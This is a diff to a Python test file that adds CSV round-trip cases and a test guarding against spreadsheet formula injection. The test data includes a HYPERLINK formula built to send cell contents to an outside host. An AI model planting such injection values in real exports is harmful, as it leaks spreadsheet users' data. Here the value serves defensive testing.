@@ -1,5 +1,6 @@
 """Rows of a trial: written and read to the bit, refused where they are none, and counted as the goal says."""
 
+import csv
 import math
 
 import numpy as np
@@ -12,7 +13,20 @@ from tests.helpers.made_up import made_up_rows
 
 
 def test_they_come_back_to_the_bit(tmp_path):
-    names = ["None", "NA", "0002", "nan", 'Zoë, the "first"', "1e5"]
+    names = [
+        "None",
+        "NA",
+        "0002",
+        "nan",
+        'Zoë, the "first"',
+        "1e5",
+        "=1+1",
+        "''",
+        "'Brien",
+        "-5",
+        "\t=1",
+        "a\rb\nc",
+    ]
     rows = made_up_rows(dict.fromkeys(names, 2), attacked=0.5)
     rows["rms"] = np.random.default_rng(0).random(len(rows)) ** 20
     rows["smallest"] = [math.inf, *rows["rms"][1:]]
@@ -20,6 +34,21 @@ def test_they_come_back_to_the_bit(tmp_path):
     rows["second"] = rows["certified_class"] = rows["target"] = rows["identity"]
     write_rows(rows, tmp_path / "verdicts.csv")
     pd.testing.assert_frame_equal(read_rows(tmp_path / "verdicts.csv"), rows, check_exact=True)
+
+
+@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t=", "\r=", "\uff1d"])
+def test_no_name_is_a_formula_of_a_spreadsheet(tmp_path, sign):
+    name = f'{sign}HYPERLINK("https://example.org/?"&A1)'
+    rows = made_up_rows({name: 2, "'Ann": 1}, attacked=0.5)
+    rows["margin_clean"] = -0.25
+    write_rows(rows, tmp_path / "verdicts.csv")
+    with (tmp_path / "verdicts.csv").open(newline="") as file:
+        cells = {cell for line in csv.reader(file) for cell in line if cell}
+    assert {cell for cell in cells if cell[0] in "=+-@\t\r\uff1d"} == {
+        "-0.25",
+        "-0.2",
+    }  # numbers stay numbers
+    assert set(read_rows(tmp_path / "verdicts.csv")["identity"]) == {name, "'Ann"}
 
 
 @pytest.fixture
